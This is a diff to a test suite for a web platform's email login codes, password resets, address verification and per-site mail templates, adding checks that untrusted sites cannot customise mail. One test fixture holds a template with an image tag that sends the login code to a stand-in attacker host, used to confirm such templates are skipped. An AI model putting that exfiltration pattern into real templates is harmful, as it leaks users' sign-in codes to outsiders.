@@ -76,7 +76,8 @@ describe('sign-in by mailed code', () => {
     const address = email();
     const { code, mail } = await mailedCode(address);
     expect(code).toMatch(/^\d{6}$/);
-    expect(mail.subject).toBe(`${code} is your sign-in code for Mail Shop`);
+    // The platform does not vouch for the site yet: its built-in mail names the host, not the owner's name.
+    expect(mail.subject).toBe(`${code} is your sign-in code for ${site.host}:${port}`);
     expect(mail.html).toContain(code);
     const r = await verify(address, code);
     expect(r.status, r.text).toBe(200);
@@ -271,17 +272,25 @@ describe('password reset', () => {
     await noMailTo(unknown, since, 500);
   });
 
-  it("links to the site's own page (passwordResetUrl) only for an account of that site alone", async () => {
+  it("links to the site's own page (passwordResetUrl) only for an account of that site alone, at a proven address", async () => {
     const own = await newSite('Own pages', server.url);
     const put = await on(own.host).put('/api/v1/sites', { settings: { passwordResetUrl: '/account/reset?step=2' } }, { token: own.ownerToken });
     expect(put.status, put.text).toBe(200);
     const customer = await signup(own.host);
-    let since = sink.received.length;
-    await on(own.host).post('/api/v1/auth/password/reset', { email: customer.email });
-    let mail = await sink.waitFor(customer.email, { since, match: (m) => m.subject.startsWith('Reset') });
+    const reset = async () => {
+      const since = sink.received.length;
+      await on(own.host).post('/api/v1/auth/password/reset', { email: customer.email });
+      return sink.waitFor(customer.email, { since, match: (m) => m.subject.startsWith('Reset') });
+    };
+    // Nothing proved the address yet: the platform's page.
+    let mail = await reset();
+    expect(linkOf(mail)).toMatch(new RegExp(`^http://localhost:${port}/admin/reset\\?token=`));
+    const verification = await sink.waitFor(customer.email, { since: customer.since, match: (m) => m.subject.startsWith('Confirm your email') });
+    expect((await on(PLATFORM).post('/api/v1/auth/email/confirm', { token: tokenOf(verification) })).status).toBe(200);
+    mail = await reset();
     expect(linkOf(mail)).toMatch(new RegExp(`^http://${own.host}:${port}/account/reset\\?step=2&token=`));
     // The platform admin belongs to every site: the site's page never gets their link.
-    since = sink.received.length;
+    const since = sink.received.length;
     await on(own.host).post('/api/v1/auth/password/reset', { email: 'admin@example.test' });
     mail = await sink.waitFor('admin@example.test', { since, match: (m) => m.subject.startsWith('Reset') });
     expect(linkOf(mail)).toMatch(new RegExp(`^http://localhost:${port}/admin/reset\\?token=`));
@@ -335,7 +344,7 @@ describe('email verification and change', () => {
     expect(data(r).item).toMatchObject({ email: user.email, name: 'Pat Two' });
     expect(data(r).token).toBeUndefined();
     const link = await sink.waitFor(next, { since });
-    expect(link.subject).toBe('Confirm your new email address for Mail Shop');
+    expect(link.subject).toBe(`Confirm your new email address for ${site.host}:${port}`);
     const ok = await on(PLATFORM).post('/api/v1/auth/email/confirm', { token: tokenOf(link) });
     expect(ok.status, ok.text).toBe(200);
     const notice = await sink.waitFor(user.email, { since, match: (m) => m.subject.includes('was changed') });
@@ -372,8 +381,10 @@ describe('PATCH /auth/me', () => {
 });
 
 describe("a site's email templates", () => {
-  it('an email template changes the subject and body of its mails, for its own accounts; it is never served', async () => {
+  it('an email template changes the subject and body of its mails once the platform trusts the site; it is never served', async () => {
     const shop = await newSite('Tpl Shop', server.url);
+    // Until then it reaches proven addresses only (test/security/mail-trust.test.ts).
+    expect((await on(PLATFORM).put(`/api/v1/sites/${shop.uid}/mail-trust`, { trusted: true }, { token: shop.admin })).status).toBe(200);
     const body = 'Subject: Your {{ site.name }} key\n<p>Key for {{ user.email }}: <b>{{ code }}</b> valid {{ expires_minutes }} min</p>';
     const created = await on(shop.host).post('/api/v1/templates', { title: 'email/login_code', type: 'email', body }, { token: shop.ownerToken });
     expect(created.status, created.text).toBe(201);
@@ -402,6 +413,7 @@ describe("a site's email templates", () => {
 
   it('a template that would leak the code elsewhere is skipped for the built-in mail', async () => {
     const shop = await newSite('Leaky Shop', server.url);
+    expect((await on(PLATFORM).put(`/api/v1/sites/${shop.uid}/mail-trust`, { trusted: true }, { token: shop.admin })).status).toBe(200);
     const body = 'Subject: Leaky\n<p> {{ code }}</p><img src="https://evil.example/p.png?c={{ code }}">';
     const created = await on(shop.host).post('/api/v1/templates', { title: 'email/login_code', type: 'email', body }, { token: shop.ownerToken });
     expect(created.status, created.text).toBe(201);
